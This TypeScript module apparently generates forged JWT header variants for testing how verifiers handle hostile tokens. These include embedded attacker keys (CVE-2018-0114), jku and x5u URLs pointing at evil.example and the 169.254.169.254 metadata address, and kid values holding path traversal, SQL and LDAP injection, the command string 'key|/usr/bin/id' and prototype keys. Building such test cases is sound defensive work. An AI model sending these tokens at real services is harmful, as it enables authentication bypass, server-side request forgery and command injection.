import type { KeyObject } from 'node:crypto';
import { attacker } from './attacker.ts';
import { type Json, type JwtAttack, type SampleJwt, signEs256 } from './jwt.ts';

/** Headers that bring a key, name one in a strange way, or ask for special treatment. */
export function headerAttacks({ header, payload, privateKey }: SampleJwt): JwtAttack[] {
  const { ec } = attacker();
  const jwk = ec.publicKey.export({ format: 'jwk' });
  const by = (key: KeyObject, members: Json): string => signEs256({ header: { ...header, ...members }, payload }, key);
  const x5c = [ec.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')];
  const bringing: Record<string, Json> = {
    'jwk (CVE-2018-0114)': { jwk },
    'jwk without kid': { jwk, kid: undefined },
    jku: { jku: 'https://evil.example/jwks.json' },
    'jku to a metadata address': { jku: 'http://169.254.169.254/latest/meta-data/' },
    x5u: { x5u: 'https://evil.example/cert.pem' },
    x5c: { x5c },
  };
  const kids: Record<string, unknown> = {
    'a path': '../../../../dev/null',
    'an absolute path': '/proc/sys/kernel/randomize_va_space',
    SQL: "x' UNION SELECT 'key' --",
    LDAP: '*)(uid=*))(|(uid=*',
    'a URL': 'https://evil.example/key',
    'a command': 'key|/usr/bin/id',
    'a prototype member': '__proto__',
    'another prototype member': 'constructor',
    'text of 10 kB': 'k'.repeat(10_000),
    empty: '',
    'a number': 0,
    null: null,
    'an array': [header['kid']],
    'an object': { kid: header['kid'] },
    'followed by NUL': `${String(header['kid'])}\0`,
    'followed by a space': `${String(header['kid'])} `,
  };
  const demanding: Record<string, Json> = {
    'crit of an unknown member': { crit: ['exp'], exp: 1 },
    'crit of a missing member': { crit: ['http://example.com/unknown'] },
    'an empty crit': { crit: [] },
    'crit that is no array': { crit: 'b64' },
    'b64 false': { b64: false },
    'b64 false and critical': { b64: false, crit: ['b64'] },
    'b64 true and critical': { b64: true, crit: ['b64'] },
    zip: { zip: 'DEF' },
    'cty JWT': { cty: 'JWT' },
    enc: { enc: 'A128GCM' },
  };
  return [
    ...Object.entries(bringing).flatMap(([name, members]): JwtAttack[] => [
      [`${name}, signed by the key it brings`, by(ec.privateKey, members)],
      [`${name}, signed by the real key`, by(privateKey, { ...members, kid: header['kid'] })],
    ]),
    ...Object.entries(kids).map(([name, kid]): JwtAttack => [`kid: ${name}`, by(privateKey, { kid })]),
    ...Object.entries(demanding).map(([name, members]): JwtAttack => [`header with ${name}`, by(privateKey, members)]),
    ...[
      'JWE',
      'at+JWS',
      'dpop+jwt',
      'secevent+jwt',
      'id_token',
      '',
      ' at+jwt',
      'JWT at+jwt',
      7,
      null,
      ['at+jwt'],
      {},
    ].map((typ): JwtAttack => [`typ ${JSON.stringify(typ)}`, by(privateKey, { typ })]),
  ];
}
